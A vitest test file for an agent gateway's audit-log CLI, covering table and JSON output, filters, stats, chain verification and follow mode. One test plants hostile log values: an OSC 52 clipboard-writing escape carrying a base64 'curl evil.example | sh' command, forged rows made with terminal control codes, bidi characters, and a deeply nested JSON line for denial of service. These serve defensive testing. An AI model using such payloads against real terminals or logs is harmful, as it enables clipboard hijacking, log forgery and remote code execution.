import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { createAuditRecord, type AuditDecision, type AuditOutcome } from '../audit/record.js';
import { openAuditWriter } from '../audit/writer.js';
import { auditCommand, type AuditIo } from './audit.js';
import { tempDir } from '../../test/helpers/tmp.js';

const NOW = Date.UTC(2025, 2, 10, 12, 0, 0);
const MIN = 60_000;

async function fixture(rotateBytes?: number): Promise<string> {
  const dir = tempDir('audit-cli-');
  const w = await openAuditWriter({
    destination: { path: join(dir, 'tollgate-audit.jsonl') },
    ...(rotateBytes ? { rotateBytes } : {}),
  });
  const row = (
    ago: number,
    agent: string,
    tool: string,
    decision: AuditDecision,
    outcome: AuditOutcome,
    ms: number,
    tokens: number,
    extra = {},
  ) =>
    w.append(
      createAuditRecord({
        timestamp: new Date(NOW - ago).toISOString(),
        'service.instance.id': 'gw',
        'gen_ai.agent.id': agent,
        'tollgate.auth.method': 'api_key',
        'mcp.method.name': 'tools/call',
        'gen_ai.tool.name': tool,
        'tollgate.upstream.name': tool.split('__')[0]!,
        'tollgate.decision': decision,
        'tollgate.outcome': outcome,
        'tollgate.latency.total_ms': ms,
        'tollgate.tokens.charged': tokens,
        ...extra,
      }),
    );
  await row(180 * MIN, 'alice', 'github__search', 'allowed', 'ok', 12.3, 100);
  await row(90 * MIN, 'bob', 'fs__read', 'denied', 'jsonrpc_error', 0.4, 0, {
    'tollgate.decision_reason': 'not allowed',
    'tollgate.decision_rule': 'agents.bob',
    'rpc.response.status_code': '-32001',
  });
  await row(30 * MIN, 'alice', 'github__create_issue', 'rate_limited', 'jsonrpc_error', 1, 0, {
    'rpc.response.status_code': '-32002',
  });
  await row(10 * MIN, 'alice', 'fs__write', 'allowed', 'timeout', 60_000, 40);
  await row(1 * MIN, 'carol', 'github__search', 'error', 'jsonrpc_error', 3, 0, {
    'rpc.response.status_code': '-32050',
  });
  await w.close();
  return dir;
}

function io(opts: Partial<AuditIo> = {}) {
  const stdout = new PassThrough();
  const stderr = new PassThrough();
  let out = '';
  let err = '';
  stdout.on('data', (d: Buffer) => (out += d.toString()));
  stderr.on('data', (d: Buffer) => (err += d.toString()));
  return { io: { stdout, stderr, isTTY: false, now: () => NOW, ...opts }, out: () => out, err: () => err };
}

async function run(argv: string[], opts: Partial<AuditIo> = {}) {
  const t = io(opts);
  const code = await auditCommand(argv, t.io);
  return { code, out: t.out(), err: t.err() };
}

describe('tollgate audit', () => {
  it('prints an aligned table, oldest first, without colour when not a TTY', async () => {
    const dir = await fixture();
    const r = await run([dir]);
    expect(r.code).toBe(0);
    const lines = r.out.trimEnd().split('\n');
    expect(lines).toHaveLength(6);
    expect(lines[0]).toMatch(/^TIME \(UTC\)\s+AGENT\s+METHOD\s+TARGET\s+DECISION\s+OUTCOME\s+LATENCY\s+REASON$/);
    expect(lines[1]).toMatch(/^2025-03-10 09:00:00\.000\s+alice\s+tools\/call\s+github__search\s+allowed\s+ok\s+12ms$/);
    expect(lines[2]).toMatch(/bob .* denied\s+jsonrpc_error -32001\s+0\.4ms\s+not allowed \[agents\.bob\]$/);
    expect(lines[4]).toMatch(/timeout\s+60\.00s$/);
    // Aligned: every column starts at the same offset on every line.
    const col = (l: string, word: string) => l.indexOf(word);
    expect(col(lines[1]!, 'allowed')).toBe(col(lines[0]!, 'DECISION'));
    expect(col(lines[2]!, 'denied')).toBe(col(lines[0]!, 'DECISION'));
    expect(r.out).not.toContain('\x1b[');
  });

  it('colours decisions on a TTY', async () => {
    const r = await run([await fixture()], { isTTY: true });
    expect(r.out).toContain('\x1b[32mallowed');
    expect(r.out).toContain('\x1b[31mdenied');
    expect(r.out).toContain('\x1b[33mrate_limited');
    expect(r.out).toContain('\x1b[35merror');
  });

  it('filters by agent, tool glob, server, decision, since/until and limit', async () => {
    const dir = await fixture(1500);
    const agents = async (args: string[]) =>
      (await run([dir, '--json', ...args])).out
        .trim()
        .split('\n')
        .filter(Boolean)
        .map((l) => (JSON.parse(l) as Record<string, unknown>)['gen_ai.tool.name']);
    expect(await agents(['--agent', 'alice'])).toEqual(['github__search', 'github__create_issue', 'fs__write']);
    expect(await agents(['--tool', 'github__*'])).toEqual(['github__search', 'github__create_issue', 'github__search']);
    expect(await agents(['--tool', 'fs__?rite'])).toEqual(['fs__write']);
    expect(await agents(['--server', 'fs'])).toEqual(['fs__read', 'fs__write']);
    expect(await agents(['--decision', 'denied,error'])).toEqual(['fs__read', 'github__search']);
    expect(await agents(['--since', '1h'])).toEqual(['github__create_issue', 'fs__write', 'github__search']);
    expect(await agents(['--since', '2h', '--until', '2025-03-10T11:40:00Z'])).toEqual([
      'fs__read',
      'github__create_issue',
    ]);
    expect(await agents(['--agent', 'alice', '--limit', '1'])).toEqual(['fs__write']);
    expect(await agents(['--agent', 'nobody'])).toEqual([]);
  });

  it('--json prints JSON Lines records with their chain field', async () => {
    const dir = await fixture();
    const r = await run([join(dir, 'tollgate-audit.jsonl'), '--json', '--limit', '2']);
    const lines = r.out.trim().split('\n');
    expect(lines).toHaveLength(2);
    expect(lines).toEqual(readFileSync(join(dir, 'tollgate-audit.jsonl'), 'utf8').trim().split('\n').slice(-2));
  });

  it('uses the default path, and says when there is no log', async () => {
    const dir = await fixture();
    expect(
      (await run(['--json'], { defaultPath: join(dir, 'tollgate-audit.jsonl') })).out.trim().split('\n'),
    ).toHaveLength(5);
    const r = await run([], { defaultPath: join(dir, 'nope.jsonl') });
    expect(r.code).toBe(1);
    expect(r.err).toMatch(/no audit log at .*nope\.jsonl/);
  });

  it('rejects bad usage with exit code 2', async () => {
    const dir = await fixture();
    for (const argv of [
      [dir, '--bogus'],
      [dir, '--since', 'yesterday'],
      [dir, '--limit', 'x'],
      ['verify', dir, '--agent', 'a'],
      ['stats', dir, '--follow'],
      [dir, dir],
    ]) {
      const r = await run(argv);
      expect(r.code, argv.join(' ')).toBe(2);
      expect(r.err).toMatch(/Usage:/);
    }
    expect((await run(['--help'])).out).toMatch(/tollgate audit verify/);
    // Every option's text is whole (the --anchor line once stopped mid-sentence).
    expect((await run(['--help'])).out).toMatch(/--anchor F .*\n.*\(ANCHOR, exit 1\)\n$/);
  });

  it('stats: a summary per agent, tool and decision', async () => {
    const dir = await fixture();
    const r = await run(['stats', dir]);
    expect(r.code).toBe(0);
    expect(r.out).toMatch(/^5 records, 140 tokens charged, latency p50 3\.0ms p95 60\.00s p99 60\.00s$/m);
    expect(r.out).toMatch(/^AGENT\s+COUNT\s+ALLOWED\s+BLOCKED\s+ERROR\s+TOKENS\s+P50\s+P95\s+P99$/m);
    expect(r.out).toMatch(/^alice\s+3\s+2\s+1\s+0\s+140\s+12ms\s+60\.00s\s+60\.00s$/m);
    expect(r.out).toMatch(/^github__search\s+2\s+1\s+0\s+1\s+100\s+3\.0ms\s+12ms\s+12ms$/m);
    expect(r.out).toMatch(/^DECISION\s+COUNT\s+TOKENS/m);
    const j = await run(['stats', dir, '--agent', 'alice', '--json']);
    expect(JSON.parse(j.out)).toMatchObject({
      total: { count: 3, tokens: 140 },
      byDecision: [
        { key: 'allowed', count: 2 },
        { key: 'rate_limited', count: 1 },
      ],
    });
  });

  it('prints what agents and upstreams wrote inert: no terminal escapes, no forged rows', async () => {
    // An agent calling an unknown tool gets its name (and "Unknown tool: <name>") into the log as it
    // sent it; agent ids come from JWT claims, reasons from upstream errors.
    const dir = tempDir('audit-cli-hostile-');
    const w = await openAuditWriter({ destination: { path: join(dir, 'tollgate-audit.jsonl') } });
    const clipboard = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07'; // OSC 52: writes the clipboard
    const forged = '\r\x1b[2K2025-03-10 11:59:00.000  alice  tools/call  github__search  allowed  ok';
    await w.append(
      createAuditRecord({
        timestamp: new Date(NOW - MIN).toISOString(),
        'service.instance.id': 'gw',
        'gen_ai.agent.id': `eve${forged}`,
        'tollgate.auth.method': 'jwt',
        'mcp.method.name': 'tools/call',
        'gen_ai.tool.name': `github__x${clipboard}\u202e\u009b2J`,
        'tollgate.upstream.name': 'github',
        'tollgate.decision': 'denied',
        'tollgate.decision_reason': `Unknown tool: x\n${forged}`,
        'tollgate.outcome': 'jsonrpc_error',
        'tollgate.latency.total_ms': 1,
      }),
    );
    await w.close();
    // Anything a terminal acts on: C0 (but the table's own newlines), DEL, C1, bidi controls.
    // biome-ignore lint/suspicious/noControlCharactersInRegex: what must not reach the terminal
    const control = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
    for (const tty of [false, true]) {
      const list = await run([dir], { isTTY: tty });
      expect(list.code).toBe(0);
      // Colour codes are ours (on a TTY); none of the agent's.
      // biome-ignore lint/suspicious/noControlCharactersInRegex: our own colour codes
      expect(list.out.replace(/\x1b\[[0-9;]*m/g, '')).not.toMatch(control);
      expect(list.out.trimEnd().split('\n')).toHaveLength(2); // the header and one row
    }
    // Shown, not acted on: the REASON column is printed whole.
    expect((await run([dir])).out).toContain('Unknown tool: x\\n\\r\\u001b[2K2025-03-10');
    const stats = await run(['stats', dir]);
    expect(stats.out).not.toMatch(control);
    expect(stats.out).toContain('github__x\\u001b]52;c;');
    expect(stats.out).not.toMatch(/^2025-03-10/m); // no line of the agent's making
    // JSON output stays the same JSON (C1 and bidi controls spelled as \u escapes).
    for (const args of [
      [dir, '--json'],
      ['stats', dir, '--json'],
    ]) {
      const j = await run(args);
      expect(j.out).not.toMatch(control);
      expect(j.out).toContain('\\u202e');
    }
    const line = JSON.parse((await run([dir, '--json'])).out) as Record<string, unknown>;
    expect(line['gen_ai.tool.name']).toBe(`github__x${clipboard}\u202e\u009b2J`);
  });

  it('skips a crafted line nested too deep to print, rather than failing the listing', async () => {
    // Parsed, a line of 100 000 nested arrays overflows the stack where it is printed (--json, the
    // admin page's record details): one such line in the log would stop every listing that reaches it.
    const dir = await fixture();
    const file = join(dir, 'tollgate-audit.jsonl');
    const deep = `{"timestamp":"2025-03-10T11:59:30.000Z","gen_ai.agent.id":"mallory","tollgate.request.arguments":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
    writeFileSync(file, `${readFileSync(file, 'utf8')}${deep}\n`);
    const r = await run([dir, '--json']);
    expect(r.err).toBe('warning: skipped 1 line(s) that are not JSON records\n');
    expect(r.code).toBe(0);
    expect(r.out.trim().split('\n')).toHaveLength(5);
    const { readAuditPage } = await import('../admin/audit-api.js');
    const { RecordRows } = await import('../admin/records.js');
    const page = await readAuditPage(file, { limit: 10 });
    expect(page.records).toHaveLength(5);
    expect(String(await RecordRows({ records: page.records }))).toContain('carol');
  });

  it('verify: exit 0 when intact, 1 with the position when broken', async () => {
    const dir = await fixture(1500);
    const ok = await run(['verify', dir]);
    expect(ok.code).toBe(0);
    expect(ok.out).toMatch(/^OK: 5 records in \d+ files, chain intact\n$/);
    const file = join(dir, 'tollgate-audit.jsonl');
    // Counted in the singular when there is one (not "1 files").
    const one = await run(['verify', await fixture()]);
    expect(one.out).toBe('OK: 5 records in 1 file, chain intact\n');
    const single = await fixture();
    const f = join(single, 'tollgate-audit.jsonl');
    const lines = readFileSync(f, 'utf8').split('\n');
    lines[1] = lines[1]!.replace('"bob"', '"eve"');
    writeFileSync(f, lines.join('\n'));
    const bad = await run(['verify', f]);
    expect(bad.code).toBe(1);
    expect(bad.out).toBe(
      `BROKEN at ${f}:3: prev does not match line 2: line 2 was edited, or records were deleted, inserted or reordered here\n`,
    );
    expect((await run(['verify', file])).code).toBe(0);
  });

  it('--follow prints new records until the signal aborts', async () => {
    const dir = await fixture();
    const ac = new AbortController();
    const t = io({ signal: ac.signal });
    const done = auditCommand([dir, '--follow', '--json', '--limit', '1'], t.io);
    const until = async (text: string) => {
      const deadline = Date.now() + 5000;
      while (!t.out().includes(text) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 10));
    };
    await until('"carol"'); // history printed: now following
    const w = await openAuditWriter({ destination: { path: join(dir, 'tollgate-audit.jsonl') } });
    await w.append(
      createAuditRecord({
        'service.instance.id': 'gw',
        'gen_ai.agent.id': 'dave',
        'tollgate.auth.method': 'jwt',
        'tollgate.decision': 'allowed',
        'tollgate.outcome': 'ok',
        'tollgate.latency.total_ms': 1,
      }),
    );
    await w.close();
    await until('"dave"');
    ac.abort();
    expect(await done).toBe(0);
    const got = t
      .out()
      .trim()
      .split('\n')
      .map((l) => (JSON.parse(l) as Record<string, unknown>)['gen_ai.agent.id']);
    expect(got).toEqual(['carol', 'dave']);
  });

  it('--follow without --json prints table rows with fixed widths', async () => {
    const dir = await fixture();
    const ac = new AbortController();
    const t = io({ signal: ac.signal });
    const done = auditCommand([dir, '-f', '--limit', '2'], t.io);
    const deadline = Date.now() + 5000;
    while (!t.out().includes('carol') && Date.now() < deadline) await new Promise((r) => setTimeout(r, 10));
    ac.abort();
    expect(await done).toBe(0);
    const lines = t.out().trimEnd().split('\n');
    expect(lines).toHaveLength(3);
    expect(lines[0]).toMatch(/^TIME \(UTC\)\s+AGENT/);
    expect(lines[2]).toMatch(
      /^2025-03-10 11:59:00\.000\s+carol\s+tools\/call\s+github__search\s+error\s+jsonrpc_error -32050\s+3\.0ms$/,
    );
    expect(lines[2]!.indexOf('error')).toBe(lines[0]!.indexOf('DECISION'));
  });

  it('-c/--config reads the audit.file of that config (relative to it), like the gateway does', async () => {
    const dir = await fixture();
    const config = join(dir, 'gw.yaml');
    writeFileSync(
      config,
      'upstreams:\n  a: { transport: stdio, command: node }\naudit: { file: tollgate-audit.jsonl }\n',
    );
    for (const flag of ['-c', '--config']) {
      const r = await run(['--json', flag, config], { env: {} });
      expect(r.code).toBe(0);
      expect(r.out.trim().split('\n')).toHaveLength(5);
    }
    // The config found by default ($TOLLGATE_CONFIG or ./tollgate.yaml) when no path is given.
    const byDefault = await run(['stats', '--json'], { env: {}, defaultConfig: { path: config, exists: true } });
    expect(byDefault.code).toBe(0);
    expect(JSON.parse(byDefault.out).total.count).toBe(5);
    writeFileSync(config, 'upstreams:\n  a: { transport: stdio, command: node }\naudit: { file: null }\n');
    const off = await run(['-c', config], { env: {} });
    expect(off.code).toBe(1);
    expect(off.err).toContain('writes no audit file (audit.file: null)');
  });
});
